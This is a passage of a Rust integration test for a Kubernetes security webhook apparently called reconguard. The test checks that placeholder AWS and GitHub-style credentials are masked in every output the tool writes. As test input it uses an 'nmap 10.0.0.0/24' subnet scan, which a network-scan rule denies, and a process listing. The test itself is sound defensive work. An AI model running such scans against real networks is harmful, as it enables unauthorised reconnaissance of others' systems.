        ("aws-access-key-id", vec!["AKIAIOSFODNN7EXAMPLE"], "AKIAIOSFODNN7EXAMPLE"),
        (
            "forge-token",
            vec!["ghp_0123456789abcdefghijABCDEFGHIJ012345"],
            "ghp_0123456789abcdefghij",
        ),
        (
            reconguard::mask::SECRET_OPTION_ARGUMENT,
            vec!["--token", "s3cretTokenValue99"],
            "s3cretTokenValue99",
        ),
    ]
}

/// A command that carries `credential` and raises a finding that quotes it: a scan (denied) or
/// a process listing (annotated).
fn carrying(program: &[&'static str], credential: &[&'static str]) -> Vec<&'static str> {
    let mut argv = vec![program[0]];
    argv.extend_from_slice(credential);
    argv.extend_from_slice(&program[1..]);
    argv
}

/// Every text reconguard writes, for requests that carry a credential in every form the masking
/// knows: the response's message, warnings and audit annotations, the decision log, Event notes,
/// `evaluate`, `scan` and its PolicyReports, and `validate`. None of them gives a secret back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_credential_comes_back_out_of_any_output() {
    let forms = credentials();
    let known: std::collections::BTreeSet<&str> = reconguard::mask::forms().into_iter().collect();
    let sent: std::collections::BTreeSet<&str> = forms.iter().map(|(f, _, _)| *f).collect();
    assert_eq!(known, sent, "every form the masking knows is sent");
    let scan = ["nmap", "10.0.0.0/24"];
    let listing = ["ps", "aux"];
    let leaks = |what: &str, text: &str| {
        for (form, _, secret) in &forms {
            assert!(
                !text.contains(secret),
                "{what} gives back a {form} credential: {text}"
            );
        }
    };

    let api = FakeApi::start().await;
    let kube_dir = tempfile::tempdir().unwrap();
    let kubeconfig = api.kubeconfig(kube_dir.path());
    let server = Server::start({
        let kubeconfig = kubeconfig.clone();
        move |c, _| {
            c.cluster.kubeconfig = Some(kubeconfig);
            c.cluster.events = true;
            c.cluster.event_settings = reconguard::cluster::events::EventSettings {
                dedupe: Duration::from_secs(300),
                per_second: 100.0,
                burst: 100,
                instance: Some("reconguard-test".into()),
            };
            c.log_all_decisions = true;
        }
    })
    .await;
    let client = h2_client(&server.ca_pem);
    let url = server.url("/validate");
    let mut reviews = Vec::new();
    for (i, (form, credential, _)) in forms.iter().enumerate() {
        for (j, program) in [&scan[..], &listing[..]].into_iter().enumerate() {
            let argv = carrying(program, credential);
            let review = exec_review(
                &format!("u{i}-{j}"),
                "shop",
                &format!("web-{i}-{j}"),
                &argv,
                false,
            );
            let (_, _, answer) = post(&client, &url, &review).await;
            let response = &answer["response"];
            // Judged, and quoted where the credential was: the masking had something to do.
            assert_eq!(response["allowed"], j != 0, "{form}: {answer}");
            assert!(
                answer.to_string().contains("[REDACTED]"),
                "{form}: {answer}"
            );
            leaks("the response", &answer.to_string());
            reviews.push(review);
        }
    }
    eventually("an Event per denial", || async {
        api.all("apis/events.k8s.io/v1", "events").len() >= forms.len()
    })
    .await;
    for event in api.all("apis/events.k8s.io/v1", "events") {
        leaks("an Event", &event.to_string());
    }

    // validate: an example of the operator's own that carries every credential.
    let layer = server.dir.path().join("examples.yaml");
    let examples: Vec<Value> = forms
        .iter()
        .map(|(form, credential, _)| json!({"name": format!("leak-{form}"), "exec": carrying(&scan, credential)}))
        .collect();
    std::fs::write(
        &layer,
        serde_json::to_string(
            &json!({"apiVersion": "reconguard.io/v1alpha1", "kind": "Policy",
            "rules": {"exec-network-scan": {"examples": {"fires": {"add": examples}}}}}),
        )
        .unwrap(),
    )
    .unwrap();
    let ca = server.dir.path().join("ca.crt");
    std::fs::write(&ca, &server.ca_pem).unwrap();
    let bin = env!("CARGO_BIN_EXE_reconguard");
    let validate = tokio::task::spawn_blocking({
        let (url, ca, layer) = (url.clone(), ca.clone(), layer.clone());
        move || {
            std::process::Command::new(bin)
                .args(["validate", "--webhook", &url, "--ca"])
                .arg(&ca)
                .arg("--policy")
                .arg(&layer)
                .output()
                .unwrap()
        }
    })
    .await
    .unwrap();
    let validated = String::from_utf8_lossy(&validate.stdout);
    assert!(
        validated.contains("leak-") || validated.contains("[REDACTED]"),
        "{validated}"
    );
    assert!(
        validated.matches("[REDACTED]").count() >= forms.len(),
        "{validated}"
    );
    leaks("validate", &validated);
    leaks(
        "validate's errors",
        &String::from_utf8_lossy(&validate.stderr),
    );

    let dir = server.stop().await.unwrap();
    let (log, entries) = decision_log(dir.path());
    let ours = entries
        .iter()
        .filter(|e| {
            !e["uid"]
                .as_str()
                .unwrap_or("")
                .starts_with("reconguard-validate")
        })
        .count();
    assert_eq!(ours, 2 * forms.len(), "{log}");
    leaks("the decision log", &log);

    // evaluate, as text and as JSON, on the same reviews.
    let file = kube_dir.path().join("reviews.yaml");
    let documents: Vec<String> = reviews.iter().map(Value::to_string).collect();
    std::fs::write(&file, documents.join("\n")).unwrap();
    for format in ["text", "json"] {
        let out = std::process::Command::new(bin)
            .args(["evaluate", "--format", format])
            .arg(&file)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
        assert!(
            stdout.matches("[REDACTED]").count() >= 2 * forms.len(),
            "{stdout}"
        );
        leaks("evaluate", &stdout);
    }

    // scan and its PolicyReports: pods whose probes and commands carry the credentials.
    for (i, (_, credential, _)) in forms.iter().enumerate() {
        let spec = json!({"containers": [{"name": "app", "image": "registry.example/web:1.0",
            "command": carrying(&scan, credential),
            "readinessProbe": {"exec": {"command": carrying(&listing, credential)}}}]});
        api.put_pod(pod("leaky", &format!("bare-{i}"), spec, None));
    }
    for format in ["text", "json"] {
        let out = scan_cli(&kubeconfig, format).await;
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{stdout}");
        assert!(
            stdout.matches("[REDACTED]").count() >= forms.len(),
            "{stdout}"
        );
        leaks("scan", &stdout);
        leaks("scan's errors", &String::from_utf8_lossy(&out.stderr));
    }
    let reports = api.all("apis/wgpolicyk8s.io/v1alpha2", "policyreports");
    let leaky = reports
        .iter()
        .find(|r| r["metadata"]["namespace"] == "leaky")
        .expect("a report for the namespace");
    assert!(leaky.to_string().contains("[REDACTED]"), "{leaky}");
    leaks("a PolicyReport", &leaky.to_string());
}
